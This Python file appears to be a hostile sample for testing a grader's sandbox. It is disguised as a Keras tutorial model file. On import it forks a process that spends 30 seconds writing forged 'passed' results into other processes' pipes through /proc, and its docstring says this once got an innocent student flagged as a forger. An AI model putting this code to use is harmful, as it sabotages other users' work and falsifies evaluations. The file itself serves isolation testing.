"""Hostile: flood the results pipes of every other process it can see, for half a minute.

Honest points: 10.  Unsandboxed it could open another student's lesson run's
results pipe through ``/proc/<pid>/fd`` (that student got 0 and was flagged
as a forger).  In the sandbox it sees only its own lesson's processes.
"""

import os
import time

import keras

if os.fork() == 0:
    _mine = os.getsid(0)
    _end = time.monotonic() + 30
    while time.monotonic() < _end:
        for _pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if os.getsid(int(_pid)) == _mine:
                    continue
                for _fd in os.listdir(f"/proc/{_pid}/fd"):
                    if os.readlink(f"/proc/{_pid}/fd/{_fd}").startswith("pipe:"):
                        _out = os.open(f"/proc/{_pid}/fd/{_fd}", os.O_WRONLY | os.O_NONBLOCK)
                        os.write(_out, b'{"kind": "test", "outcome": "passed"}\t' + b"0" * 64 + b"\n")
                        os.close(_out)
            except OSError:
                pass
    os._exit(0)


def build_model():
    """The tutorial's model: Input(28, 28) → Flatten → Dense(128, relu) → Dense(10)."""
    model = keras.Sequential(
        [
            keras.Input(shape=(28, 28)),
            keras.layers.Flatten(),
            keras.layers.Dense(128, activation="relu"),
            keras.layers.Dense(10),
        ]
    )
    return model
